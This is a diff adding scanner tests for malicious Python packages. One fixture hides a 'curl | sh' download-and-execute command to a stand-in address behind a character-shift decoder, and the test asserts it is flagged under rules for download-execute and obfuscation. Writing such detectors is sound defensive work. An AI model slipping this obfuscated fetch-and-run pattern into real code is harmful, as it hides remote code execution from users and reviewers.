@@ -305,3 +305,35 @@ def test_a_deploy_helper_logging_in_with_an_ssh_key_is_no_exfiltration(tmp_path)
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- a module's own decoder
+KEYED_SHIFT = (
+    "import importlib\n\n\ndef _k(s, k=7):\n    return ''.join(chr((ord(c) - k) % 256) for c in s)\n\n\n"
+    "m = importlib.import_module(_k('z|iwyvjlzz'))\n"  # subprocess
+    "getattr(m, _k('Wvwlu'))(_k(\"j|ys'4z'o{{wA668@957595<6\\x7f'\\x83'zo\"), shell=True)\n"
+)
+
+
+def test_names_hidden_by_a_keyed_shift_function_of_the_module_are_read(tmp_path):
+    """A one-line decoder defined in the module and applied to short literals (a module name,
+    an attribute, a command): folded as if written inline, so the curl | sh it hides shows."""
+    result = scan({"pkg/__init__.py": KEYED_SHIFT}, tmp_path)
+    assert_high_with("keyed shift", result, {"chain.download_execute", "disguise.obfuscation"})
+    assert any(f.rule == "pat.curl_pipe_shell" for f in result.findings)
+
+
+def test_a_module_path_helper_of_a_lazy_loader_stays_quiet(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import importlib\n\n\ndef _fullname(name):\n    'The plugin module for name.'\n"
+            "    return 'pkg.plugins.' + name\n\n\n"
+            "def checksum(s):\n    return sum(ord(c) for c in s) % 256\n\n\n"
+            "def load(name):\n    return importlib.import_module(_fullname(name))\n\n\n"
+            "JSON = importlib.import_module(_fullname('json'))\nSUM = checksum('abc')\n"
+        ),
+        "pkg/plugins/__init__.py": "",
+        "pkg/plugins/json.py": "import json\ndumps = json.dumps\n",
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
